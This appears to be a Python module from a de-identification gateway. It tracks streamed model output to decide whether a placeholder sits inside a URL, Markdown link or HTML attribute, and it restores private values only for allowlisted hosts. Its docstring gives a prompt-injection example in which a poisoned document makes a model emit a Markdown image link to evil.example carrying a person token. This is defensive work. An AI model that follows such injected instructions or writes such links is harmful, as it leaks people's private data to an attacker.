"""Where in an outside reply the text stands: inside a URL, a Markdown link or image target, or an HTML attribute.

A value restored there could be fetched by whoever renders the reply (decisions 10): a poisoned document may make a
model write ``![x](https://evil.example/?q=[[PERSON_1]])``. The tracker reads what is given to the app, in order, in
pieces of any size, and answers for the place that it reached. In doubt it says yes: a token withheld is a nuisance, one
restored there a leak.
"""

from __future__ import annotations

import html
import re
from typing import Final
from urllib.parse import unquote

from phigate.deid.search import unescaped

_URL: Final = re.compile(
    r"(?<![a-z0-9+.\-])[a-z][a-z0-9+.\-]*:(?:\\?/){2}|(?<![a-z0-9])(?:\\?/){2}|(?<![a-z0-9])(?:\\{2}|www\.)"
    r"|(?:https?|mailto|tel|sms|data|javascript|vbscript|file|blob|about|intent|cid|ftp|wss?):"
    r"|(?<![a-z0-9.\-])(?:[a-z0-9\-]+\.)+[a-z]{2,24}(?::\d+)?[/?#]",
    re.IGNORECASE,
)
_PLAIN_URL: Final = re.compile(r"https?://([a-z0-9.\-]+)(?::\d{1,5})?[/?#][A-Za-z0-9\-._~/?#&=%+,;:@!*$]*")
_EVENT: Final = re.compile(
    r"\x1e|\\\)|\]\(|\]:[ \t]*(?:\n[ \t]*)?<|</?(?:script|style)|<[A-Za-z/!?]|[()>=\"']|\n[ \t\r]*\n|\n", re.IGNORECASE
)
_UNFINISHED: Final = re.compile(r"(?:\\|\](?::[ \t]*(?:\n[ \t]*)?)?|</?[A-Za-z]{0,5}|\n[ \t\r]*)\Z")
_BEGUN: Final = re.compile(r"(?:\]:[ \t]*\n[ \t]*|</?[A-Za-z]{0,5})\Z")  # what comes next may make another event of it
_QUOTE: Final = re.compile(r'\\.|"', re.DOTALL)
_LONGEST_WORD: Final = 4096
_STRING_END: Final = "\x1e"  # a record separator counts as space and ends every context
_AHEAD: Final = 128  # characters after a token that are looked at
_FOLLOWING: Final = re.compile(r"(?:[\w\-%.@&#;\u3002\uff0e\uff61]|\\(?:[._\-@]|\Z))*")
_FOLLOWING_JSON: Final = re.compile(r"(?:[\w\-%.@&#;\u3002\uff0e\uff61]|\\(?:u[0-9a-fA-F]{0,4}|[^\"u]|\Z))*")
_TAG_BEGUN: Final = len("<a")  # as events have it; scripts and style sheets have their whole name
_DOTS: Final = str.maketrans("\u3002\uff0e\uff61", "...")
# Two labels at least: nobody else is asked for souza.example, but for souza.name.example whoever owns name.example.
_DOMAIN: Final = re.compile(r"[\w\-]*(?:\.[\w\-]+)*(?:\.[\w\-]+\.[^\W\d_]{2,}|@[\w\-]+(?:\.[\w\-]+)*\.[^\W\d_]{2,})")


def ahead(text: str, end: int, *, json: bool, final: bool) -> bool | None:
    """Return whether what follows a token that ends at ``end`` makes it a part of a domain or of a mail address.

    Many readers make links of these without a scheme. None: what follows has not come yet.
    """
    if end < len(text) and text[end] in " ,)\n\"'":
        return False  # nearly always
    following = (_FOLLOWING_JSON if json else _FOLLOWING).match(text, end, end + _AHEAD)
    assert following is not None  # it may be empty
    run = following[0]
    if not final and len(run) < _AHEAD and following.end() == len(text):
        return None
    plain = unescaped(run) if json else run
    plain = unquote(html.unescape(plain.replace("\\", ""))).translate(_DOTS)
    return len(run) == _AHEAD or _DOMAIN.match(plain) is not None


class Surroundings:
    """Follows the text of one channel. ``json``: the text is serialised JSON, and each of its strings stands alone."""

    def __init__(self, *, json: bool, hosts: frozenset[str]) -> None:
        self._json = json
        self._hosts = hosts
        self._pending: list[str] = []
        self._carry = ""
        self._word = ""
        self._parens = 0  # of an open Markdown target
        self._tag = False
        self._attributes = False
        self._quote = ""
        self._angle = False  # of a Markdown reference's target
        self._code = False  # in a script or style sheet

    def note(self, text: str) -> None:
        """Take in what was given to the app. Cheap: it is read only when a token turns up."""
        if text:
            self._pending.append(text)

    def within(self) -> bool:
        """Return whether the place reached is inside a URL, a link target or an attribute."""
        self._catch_up()
        if len(self._word) >= _LONGEST_WORD:
            return True
        code = self._angle or self._code
        return bool(code or self._parens or (self._tag and self._attributes) or _URL.search(self._word))

    def allowed(self) -> bool:
        """Return whether that URL goes to a host to which values may be restored."""
        self._catch_up()
        match = _URL.search(self._word)
        if match is None or len(self._word) >= _LONGEST_WORD:
            return False
        plain = _PLAIN_URL.fullmatch(self._word, match.start())
        if plain is None or plain[1] not in self._hosts:
            return False
        before = self._word[: match.start()]
        if self._angle or self._code:
            return False
        if self._parens:
            return before.endswith("](") and self._parens == 1
        return not self._tag or before.endswith(("=", '="', "='"))

    def _catch_up(self) -> None:
        if not self._pending:
            return
        text = "".join(self._pending)
        self._pending.clear()
        if self._json:
            text = unescaped(_QUOTE.sub(lambda m: _STRING_END if m[0] == '"' else m[0], text))
        self._follow_word(text)
        text = self._carry + text
        done = 0
        begun = _BEGUN.search(text)
        for event in _EVENT.finditer(text):
            if begun is not None and event.start() >= begun.start():
                break
            self._take(event[0])
            done = event.end()
        unfinished = _UNFINISHED.search(text, done)
        self._carry = unfinished[0] if unfinished else ""

    def _follow_word(self, text: str) -> None:
        if not text[-1].isspace():
            last = text.rsplit(None, 1)[-1]
            whole = len(last) == len(text)
            self._word = (self._word + last if whole else last)[:_LONGEST_WORD]
        else:
            self._word = ""

    def _take(self, event: str) -> None:
        if event == _STRING_END:
            self._parens, self._tag, self._attributes, self._quote = 0, False, False, ""
            self._angle = self._code = False
        elif event[0] == "\n":
            self._angle = False
            if len(event) > 1:
                self._parens = 0  # a Markdown target ends with its paragraph; an HTML tag does not
        elif event[:2] == "]:":
            self._angle = True
        elif self._angle and event == ">":
            self._angle = False
        elif event[0] == "<" and len(event) > _TAG_BEGUN:
            self._code = event[1] != "/"
            self._open_tag()
        elif self._tag:
            self._take_in_tag(event)
        else:
            self._take_in_text(event)

    def _take_in_text(self, event: str) -> None:
        if event == "](":
            self._parens = 1
        elif event[0] == "<":
            self._open_tag()
        elif self._parens and event == "(":
            self._parens += 1
        elif self._parens and event == ")":
            self._parens -= 1

    def _open_tag(self) -> None:
        self._tag, self._attributes, self._quote = True, False, ""

    def _take_in_tag(self, event: str) -> None:
        if self._quote:
            if event == self._quote:
                self._quote = ""
        elif event == ">":
            self._tag = self._attributes = False
        elif event == "=":
            self._attributes = True
        elif event in "\"'" and self._attributes:
            self._quote = event
